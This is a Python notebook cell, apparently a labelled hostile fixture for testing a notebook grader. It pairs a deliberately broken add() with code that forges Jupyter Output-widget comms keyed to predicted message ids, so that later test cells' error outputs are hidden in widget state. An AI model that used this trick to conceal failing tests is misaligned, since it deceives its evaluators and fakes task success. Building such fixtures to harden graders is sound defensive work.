# Hostile: predict the next execute_request msg_ids from this cell's parent header (session_pid_counter) and open raw jupyter.widget comms posing as Output widgets bound to them, so nbclient routes the tests cells' error outputs into widget state instead of the cells.
def add(a, b):
    return a - b

def _hide_future_outputs(n=8):
    from comm import create_comm
    hdr = get_ipython().kernel.get_parent("shell")["header"]
    prefix, _, count = hdr["msg_id"].rpartition("_")
    comms = []
    for i in range(1, n + 1):
        c = create_comm(target_name="jupyter.widget",
                        data={"state": {"_model_name": "OutputModel",
                                        "_model_module": "@jupyter-widgets/output",
                                        "_model_module_version": "1.0.0",
                                        "_view_name": "OutputView",
                                        "_view_module": "@jupyter-widgets/output",
                                        "_view_module_version": "1.0.0",
                                        "msg_id": f"{prefix}_{int(count) + i}",
                                        "outputs": []},
                              "buffer_paths": []},
                        metadata={"version": "2.1.0"})
        comms.append(c)
    return comms

_keep_comms = _hide_future_outputs()
